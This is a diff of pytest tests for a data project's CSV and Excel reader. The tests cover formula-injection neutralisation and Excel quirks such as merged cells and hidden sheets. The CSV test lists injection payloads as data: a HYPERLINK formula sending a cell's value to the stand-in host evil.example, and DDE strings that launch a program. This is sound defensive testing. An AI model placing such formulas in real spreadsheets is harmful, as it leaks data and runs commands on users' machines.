@@ -360,3 +360,93 @@ def test_read_table_round_trips_what_csv_writes(tmp_path_factory, rows, encoding
     frame = io.read_table(path)
     assert list(frame.columns) == ["namn", "ort", "_row"]
     assert list(zip(frame["namn"], frame["ort"], strict=True)) == rows
+
+
+# ------------------------------------------------------------------ CSV for Excel (issue 19)
+
+@pytest.mark.parametrize(("cell", "written"), [
+    ('=HYPERLINK("http://evil.example/?x="&A1;"Klicka")', '\'=HYPERLINK("http://evil.example/?x="&A1;"Klicka")'),
+    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+    ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("-3", "-3"), ("-3,5", "-3,5"), ("+46 36 10 10 00", "'+46 36 10 10 00"), ("1 234,5", "1 234,5"),
+    ("sjukdomsutbrott vecka 7", "sjukdomsutbrott vecka 7"), ("", ""),
+])
+def test_a_cell_that_would_start_a_formula_is_written_as_text(cell, written):
+    """OWASP's rule for CSV injection: a leading ' makes Excel show the cell as text."""
+    assert io.neutralise_formula(cell) == written
+    assert io.restore_formula(io.neutralise_formula(cell)) == cell
+
+
+def test_excel_safe_leaves_numbers_and_dates_alone():
+    frame = pd.DataFrame({"note": ["=1+1", "bra"], "value": [-3.0, 2.0],
+                          "period": pd.to_datetime(["2024-01-01", "2024-01-08"])})
+    safe = io.excel_safe(frame)
+    assert list(safe["note"]) == ["'=1+1", "bra"]
+    pd.testing.assert_series_equal(safe["value"], frame["value"])
+    pd.testing.assert_series_equal(safe["period"], frame["period"])
+    assert list(frame["note"]) == ["=1+1", "bra"]  # the input is not changed
+
+
+def test_mixed_encodings_name_the_excel_row_of_both_parts(tmp_path):
+    """Issue 19: with a quoted cell over two lines before it, the line of the mixed-up letter is
+    not its row; the message names the row as Excel shows it, its column, and the row that is
+    Windows-1252."""
+    path = tmp_path / "teams.csv"
+    path.write_bytes(b'namn;aim\nN\xe4ssj\xf6;"rad ett\nrad tv\xe5"\nJ\xc3\xb6nk\xc3\xb6ping;ok\n')
+    [problem] = read_problems(path)
+    assert (problem.row, problem.column) == (3, "namn")  # line 4 of the file
+    assert "'Ã¶' in row 3" in problem.message and "row 2 is Windows-1252" in problem.message
+
+
+# ------------------------------------------------------------------ Excel quirks (issue 19)
+
+def test_a_formula_without_its_saved_result_is_named_not_called_empty(tmp_path):
+    """openpyxl, like many export tools, writes formulas without their result: read as values
+    such a cell is empty. The problem says what it is and what to do."""
+    path = write_xlsx(tmp_path / "observations.xlsx", [["team_id", "value"], ["a", "=1+1"], ["b", 3]])
+    [problem] = read_problems(path)
+    assert (problem.row, problem.column) == (2, "value")
+    assert "formula =1+1 but not its result" in problem.message and "save it" in problem.hint
+
+
+def test_merged_cells_in_the_data_are_named(tmp_path):
+    import openpyxl
+
+    path = write_xlsx(tmp_path / "observations.xlsx",
+                      [["team_id", "value"], ["nassjo", 1], [None, 2], [None, 3]])
+    book = openpyxl.load_workbook(path)
+    book.active.merge_cells("A2:A4")
+    book.save(path)
+    [problem] = read_problems(path)
+    assert (problem.row, problem.column) == (2, "team_id")
+    assert "cells A2:A4 are merged: only A2 holds the value" in problem.message
+    assert "unmerge" in problem.hint
+
+
+def test_a_hidden_first_sheet_is_not_read_silently(tmp_path):
+    import openpyxl
+
+    path = write_xlsx(tmp_path / "teams.xlsx", [["list"], ["x"]], second_sheet=["team_id"])
+    book = openpyxl.load_workbook(path)
+    book.worksheets[0].sheet_state = "hidden"
+    book.save(path)
+    [problem] = read_problems(path)
+    assert "first sheet 'Sheet' is hidden" in problem.message and "'other'" in problem.hint
+
+
+def test_data_on_the_second_sheet_is_pointed_at(tmp_path):
+    from analysis import schemas
+
+    empty_first = write_xlsx(tmp_path / "teams.xlsx", [], second_sheet=["team_id", "team_name"])
+    [problem] = read_problems(empty_first)
+    assert "first sheet 'Sheet' is empty" in problem.message and "on the sheet 'other'" in problem.message
+    # the first sheet holds something else: the missing column is found on the other sheet
+    path = write_xlsx(tmp_path / "measures.xlsx", [["anteckning"], ["x"]],
+                      second_sheet=["measure_id", "team_id", "measure_name"])
+    _, problems = schemas.check_columns("measures", io.read_table(path), "measures.xlsx")
+    missing = {p.column: p for p in problems}
+    assert "'measure_id' is on the sheet 'other': drag that sheet to the first place" in missing["measure_id"].hint
+    assert "only the first sheet ('Sheet') is read (the file also has 'other')" in missing["chart"].hint
